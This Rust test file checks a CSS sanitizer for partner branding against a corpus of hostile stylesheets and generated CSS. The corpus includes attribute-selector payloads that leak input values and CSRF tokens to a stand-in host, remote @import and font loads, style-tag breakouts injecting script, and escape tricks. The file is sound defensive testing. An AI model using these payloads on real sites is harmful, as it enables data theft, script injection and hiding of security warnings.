//! The sanitizer against a corpus of attacks, and a property test over generated CSS.

use lightningcss::{
    rules::CssRule,
    stylesheet::{ParserOptions, PrinterOptions, StyleSheet},
    traits::ToCss,
};
use proptest::prelude::*;

use super::{fetches, sanitize};
use crate::branding::model::BRAND_ROOT;

const ASSET: &str = "/brand-assets/0b5e8a36-1d1e-4c43-9b55-5b7e4c1e0a11/3f2a.png";

fn allowed() -> Vec<String> {
    vec![ASSET.to_string()]
}

/// Attacks, each of which must be neutralised (and reported).
const ATTACKS: &[&str] = &[
    // Exfiltration through attribute selectors and remote backgrounds.
    "input[value^=a]{background:url(//evil.example/a)}",
    "input[value$=\"1\"]{background-image:url('https://evil.example/1')}",
    "input[name=csrf][value^=x]{list-style:url(https://evil.example/x)}",
    "a{cursor:url(https://evil.example/c.cur),auto}",
    "a{border-image:url(https://evil.example/b.png) 30}",
    "a{mask:url(https://evil.example/m.svg)}",
    "a{filter:url(https://evil.example/f.svg#x)}",
    // Loading other stylesheets and fonts.
    "@import url(//evil.example/x.css);",
    "@import 'https://evil.example/x.css';",
    "@font-face{font-family:x;src:url(https://evil.example/f.woff)}",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    // Closing the style element.
    "</style><script>alert(1)</script>",
    "a{color:red}</style><img src=x onerror=alert(1)>",
    "a{content:\"</style><script>alert(1)</script>\"}",
    "a{--x:\"</STYLE><script>alert(1)</script>\"}",
    // Escapes and comments that spell url( or split keywords.
    "a{background:\\75 rl(//evil.example/e)}",
    "a{background:u\\72l(//evil.example/e)}",
    "a{background:ur/**/l(//evil.example/c)}",
    "a{background:url(/**/https://evil.example/c)}",
    "@im/**/port url(//evil.example/x.css);",
    "@\\69mport url(//evil.example/x.css);",
    // Script in styles (old IE and Firefox).
    "a{width:expression(alert(1))}",
    "a{behavior:url(https://evil.example/x.htc)}",
    "a{-moz-binding:url(https://evil.example/x.xml#xss)}",
    // Fetching functions other than url().
    "a{background-image:image-set(\"https://evil.example/1x.png\" 1x)}",
    "a{background-image:-webkit-image-set(url(//evil.example/i.png) 1x)}",
    "a{--i:src(\"https://evil.example/s.png\")}",
    "a{background:cross-fade(url(//evil.example/a.png),url(//evil.example/b.png),50%)}",
    // URLs hidden in custom properties, keyframes and grouping rules.
    ":root{--bg:url(https://evil.example/v.png)}a{background:var(--bg)}",
    "@keyframes k{from{background:url(//evil.example/k.png)}}",
    "@media screen{input[value^=a]{background:url(//evil.example/m)}}",
    "@supports (display:grid){a{background:url(//evil.example/s)}}",
    "a{background:var(--missing,url(//evil.example/fallback))}",
    // Reaching outside the branded root.
    "& .impersonation-banner{display:none}",
    ":is(&){contain:none}",
    "a{color:red; & ~ .impersonation-banner{display:none}}",
    "@layer x{.impersonation-banner{display:none}}",
    "@scope (body){.impersonation-banner{display:none}}",
    "@container (min-width:1px){a{background:url(//evil.example/q)}}",
    "@-moz-document url-prefix(){a{color:red}}",
    "@page{margin:0}",
    // An unquoted URL broken across a newline and a bad url token.
    "a{background:url(//evil.example/a\nb)}",
];

/// Every style rule's selectors, printed, at any depth of @media/@supports.
fn selectors(rules: &[CssRule]) -> Vec<String> {
    let mut out = Vec::new();
    for rule in rules {
        match rule {
            CssRule::Style(style) => out.extend(
                style
                    .selectors
                    .0
                    .iter()
                    .map(|s| s.to_css_string(PrinterOptions::default()).unwrap()),
            ),
            CssRule::Media(media) => out.extend(selectors(&media.rules.0)),
            CssRule::Supports(supports) => out.extend(selectors(&supports.rules.0)),
            CssRule::Keyframes(_) => {}
            other => panic!("unexpected rule in output: {other:?}"),
        }
    }
    out
}

/// What must hold of any output: no fetch outside the assets, nothing that closes `<style>`,
/// it re-parses without a warning, and every selector sits under the branded root.
fn assert_safe(input: &str, css: &str) {
    assert_eq!(fetches(css, &allowed()), None, "{input:?} gave {css:?}");
    assert!(!css.contains('<'), "{input:?} gave {css:?}");
    let warnings = std::sync::Arc::new(std::sync::RwLock::new(Vec::new()));
    let sheet = StyleSheet::parse(
        css,
        ParserOptions {
            error_recovery: true,
            warnings: Some(warnings.clone()),
            ..ParserOptions::default()
        },
    )
    .unwrap_or_else(|e| panic!("{input:?} gave unparsable {css:?}: {e}"));
    assert!(
        warnings.read().unwrap().is_empty(),
        "{input:?} gave {css:?}"
    );
    for selector in selectors(&sheet.rules.0) {
        assert!(
            selector.starts_with(&format!("{BRAND_ROOT} ")),
            "{input:?} gave unscoped {selector:?}"
        );
    }
}

#[test]
fn every_attack_is_neutralised_and_reported() {
    assert!(ATTACKS.len() >= 30);
    for attack in ATTACKS {
        let out = sanitize(attack, BRAND_ROOT, &allowed());
        assert_safe(attack, &out.css);
        // Either something was taken out and reported, or the attack was only text inside
        // a string, kept with `<` escaped.
        assert!(
            !out.removed.is_empty() || out.css.contains(r"\3c /"),
            "{attack:?} was kept whole as {:?}",
            out.css
        );
        assert!(!out.css.contains("evil"), "{attack:?} gave {:?}", out.css);
        assert!(!out.css.contains("impersonation-banner"), "{attack:?}");
    }
}

#[test]
fn allowed_css_is_kept_and_scoped() {
    let css = "h1, .card > p { color: #123456; font-weight: 700 }\n\
               @media (max-width: 600px) { .card { padding: 0 } }\n\
               .hero { background: url(\"ASSET\") no-repeat; content: \"a<b\" }\n\
               @keyframes pulse { from { opacity: 0 } to { opacity: 1 } }"
        .replace("ASSET", ASSET);
    let out = sanitize(&css, BRAND_ROOT, &allowed());
    assert_eq!(out.removed, vec![]);
    assert_safe(&css, &out.css);
    assert!(out
        .css
        .contains("[data-brand-root] h1,[data-brand-root] .card>p{"));
    assert!(out
        .css
        .contains("@media (max-width:600px){[data-brand-root] .card{"));
    assert!(out.css.contains(ASSET));
    assert!(out.css.contains("@keyframes pulse"));
    // `<` inside a string is kept as its CSS escape.
    assert!(out.css.contains(r#""a\3c b""#));
}

#[test]
fn compound_selectors_keep_their_order() {
    let css = "a.button:hover, input[type=text]::placeholder, ul > li.active + li, \
               :is(h1, h2).title, .card:not(.muted) p::first-line { color: red }";
    let out = sanitize(css, BRAND_ROOT, &allowed());
    assert_eq!(out.removed, vec![]);
    assert_safe(css, &out.css);
    assert_eq!(
        out.css,
        "[data-brand-root] a.button:hover,\
         [data-brand-root] input[type=text]::placeholder,\
         [data-brand-root] ul>li.active+li,\
         [data-brand-root] :is(h1,h2).title,\
         [data-brand-root] .card:not(.muted) p:first-line{color:red}"
    );
}

#[test]
fn removals_are_reported_line_by_line() {
    let css = "a { color: red }\n\
               @import url(//evil.example/x.css);\n\
               b { background: url(//evil.example/b); color: blue }\n\
               c { behavior: url(x.htc) }";
    let out = sanitize(css, BRAND_ROOT, &allowed());
    let lines: Vec<u32> = out.removed.iter().map(|r| r.line).collect();
    assert_eq!(lines, vec![2, 3, 4], "{:?}", out.removed);
    assert!(
        out.removed[0].why.contains("@import"),
        "{:?}",
        out.removed[0]
    );
    assert_eq!(out.removed[1].what, "`background`");
    assert_eq!(out.removed[2].what, "`behavior`");
    assert!(out.css.contains("[data-brand-root] b{color:#00f}"));
}

#[test]
fn another_partners_asset_is_not_an_allowed_url() {
    let other = "/brand-assets/6f7c1d0e-0000-4000-8000-000000000000/aa.png";
    let out = sanitize(
        &format!("a{{background:url({other})}}"),
        BRAND_ROOT,
        &allowed(),
    );
    assert_eq!(out.css, "");
    assert_eq!(out.removed.len(), 1);
}

/// Pieces that CSS is made of, hostile ones included, for the generator below.
fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("a".to_string()),
        Just(".card".to_string()),
        Just("input[value^=a]".to_string()),
        Just("&".to_string()),
        Just("*".to_string()),
        Just("#id".to_string()),
        Just(":hover".to_string()),
        Just("::before".to_string()),
        Just(":not(".to_string()),
        Just(">".to_string()),
        Just("+".to_string()),
        Just("~".to_string()),
        Just("*|".to_string()),
        Just(":is(".to_string()),
        Just(")".to_string()),
        Just("{".to_string()),
        Just("}".to_string()),
        Just(";".to_string()),
        Just(":".to_string()),
        Just(",".to_string()),
        Just(" ".to_string()),
        Just("\n".to_string()),
        Just("color:red".to_string()),
        Just("background:".to_string()),
        Just("url(".to_string()),
        Just("url(//evil.example/x)".to_string()),
        Just(format!("url({ASSET})")),
        Just("\\75 rl(".to_string()),
        Just("u\\72l(".to_string()),
        Just("/**/".to_string()),
        Just("/*".to_string()),
        Just("*/".to_string()),
        Just("\"".to_string()),
        Just("'".to_string()),
        Just("\\".to_string()),
        Just("</style>".to_string()),
        Just("<script>".to_string()),
        Just("@import ".to_string()),
        Just("@media screen".to_string()),
        Just("@supports (display:grid)".to_string()),
        Just("@keyframes k".to_string()),
        Just("@font-face".to_string()),
        Just("image-set(".to_string()),
        Just("src(".to_string()),
        Just("expression(".to_string()),
        Just("var(--x,".to_string()),
        Just("--x:".to_string()),
        Just("//evil.example/".to_string()),
        Just("https://evil.example/".to_string()),
        "[ -~]{0,6}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    /// Whatever goes in, what comes out fetches nothing but the partner's assets, cannot
    /// close the style element, re-parses cleanly, and stays under the branded root.
    #[test]
    fn output_is_always_safe(parts in prop::collection::vec(fragment(), 0..40)) {
        let input = parts.concat();
        let out = sanitize(&input, BRAND_ROOT, &allowed());
        assert_safe(&input, &out.css);
    }

    /// Sanitizing is stable: the output of the sanitizer, scoped again, loses nothing more.
    #[test]
    fn plain_rules_survive(color in "#[0-9a-f]{6}", class in "[a-z]{1,8}") {
        let input = format!(".{class}{{color:{color}}}");
        let out = sanitize(&input, BRAND_ROOT, &allowed());
        prop_assert!(out.removed.is_empty());
        let expected = format!("{BRAND_ROOT} .{class}{{");
        prop_assert!(out.css.starts_with(&expected), "{}", out.css);
    }
}
